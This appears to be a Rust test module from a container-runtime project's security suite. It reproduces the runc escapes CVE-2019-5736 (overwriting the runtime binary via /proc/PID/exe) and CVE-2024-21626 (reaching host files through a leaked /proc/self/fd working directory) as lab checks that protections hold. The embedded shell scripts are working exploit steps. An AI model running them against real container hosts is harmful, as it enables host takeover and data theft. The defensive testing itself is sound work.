//! What a process that enters a container brings with it: its own file, and descriptors.

use std::fs;

use serde_json::json;

use super::lab::{Lab, Outcome, Ran, Runtime, until};
use super::{fails, succeeds_without, weak};

// ANCHOR: cve_2019_5736
/// Root in a container waits for the runtime to enter by `exec`, opens its file by /proc/PID/exe
/// and writes to it when it does not run any more. To be there long enough, the image makes the
/// program that is executed the runtime itself, and lets it wait at a named pipe.
pub fn overwrite_the_runtime(runtime: Runtime) -> Outcome {
    let mut lab = Lab::new(runtime);
    lab.show_libraries();
    // What waits at the pipe goes on: crun reads from it, the others write to it.
    let release = match runtime {
        Runtime::Crun => "while :; do echo >/fifo; sleep 0.1; done",
        _ => "while :; do cat /fifo >/dev/null; done",
    };
    lab.script(&format!(
        "mkfifo /fifo; echo ready
         while :; do
             for p in /proc/[0-9]*; do
                 case $(readlink $p/exe) in ''|*/busybox) continue;; esac
                 exec 3<$p/exe && break 2
             done
         done
         echo caught; {release} &
         for i in $(seq 500); do
             said=$( (echo pwned >/proc/self/fd/3) 2>&1) && echo written && break
             case $said in *Read-only*) break;; esac
             sleep 0.01
         done
         echo $said; echo done; sleep 1000"
    ));
    let mut process = match runtime {
        Runtime::Weak(_) => {
            let args = ["/proc/self/exe", "runtime", "--exact", "--test-threads=1"];
            let mut process = lab.process(&args);
            process["env"] = json!(["PATH=/bin", weak::block()]);
            process
        }
        // It opens its log in a way that does not wait.
        Runtime::Crun => lab.process(&["/proc/self/exe", "run", "--config", "/fifo", "x"]),
        _ => lab.process(&["/proc/self/exe", "--log", "/fifo", "state", "x"]),
    };
    process["terminal"] = json!(false);
    let running = lab.start();
    let ran = lab.exec(&process, &[]);
    until(|| running.text().contains("done"), || format!("{}{ran:?}", running.text()));
    let text = running.text();
    assert!(text.contains("caught"), "{text}");
    if lab.program_is_whole() {
        let said = text.lines().rev().nth(1).unwrap_or_default().to_owned();
        Ran { status: None, text: said }.stopped()
    } else {
        Outcome::Succeeded
    }
}
// ANCHOR_END: cve_2019_5736

#[corten_tier::t1]
fn cve_2019_5736() {
    fails(overwrite_the_runtime);
    succeeds_without("unshielded", overwrite_the_runtime);
}

/// Runs the lab's container by a caller that has left the descriptor 9 open, on a directory of the
/// host with a file `secret`.
fn run_with_leak(lab: &Lab) -> Ran {
    fs::write(lab.outside().join("secret"), "host-secret\n").unwrap();
    let inner = lab.command("run", &[]);
    let mut command = std::process::Command::new("sh");
    command.args(["-c", "exec 9<\"$LEAK\"; exec \"$@\"", "sh"]).env("LEAK", lab.outside());
    command.arg(inner.get_program()).args(inner.get_args()).current_dir(lab.outside());
    command.envs(inner.get_envs().filter_map(|(name, value)| Some((name, value?))));
    super::lab::finish(command)
}

fn outcome(ran: &Ran) -> Outcome {
    if ran.text.contains("host-secret") { Outcome::Succeeded } else { ran.stopped() }
}

// ANCHOR: cve_2024_21626
/// A working directory of /proc/self/fd/N is a directory of the host, if the runtime has one open
/// or was given one. From there `..` leads to the host's root.
pub fn working_directory_by_descriptor(runtime: Runtime) -> Outcome {
    let mut last = Outcome::Stopped(String::new());
    // 9 is that of the caller; the others are what the runtime itself may have open.
    for number in (3..6).chain([9]) {
        let mut lab = Lab::new(runtime);
        lab.config["process"]["cwd"] = json!(format!("/proc/self/fd/{number}"));
        let file = lab.outside().join("secret");
        let up = "../../../../../..";
        lab.script(&format!("cat secret {up}{}", file.display()));
        let ran = run_with_leak(&lab);
        last = outcome(&ran);
        if last == Outcome::Succeeded {
            return last;
        }
    }
    last
}

/// The same without a working directory: the program itself looks at what it has open.
pub fn leaked_descriptor(runtime: Runtime) -> Outcome {
    let mut lab = Lab::new(runtime);
    lab.script("for fd in /proc/self/fd/*; do cat $fd/secret; done 2>/dev/null; echo nothing");
    outcome(&run_with_leak(&lab))
}
// ANCHOR_END: cve_2024_21626

#[corten_tier::t1]
fn cve_2024_21626_working_directory() {
    // Without the check: mutants/04-working-directory.patch.
    fails(working_directory_by_descriptor);
}

#[corten_tier::t1]
fn cve_2024_21626_leaked_descriptor() {
    fails(leaked_descriptor);
    succeeds_without("descriptors stay open", leaked_descriptor);
}
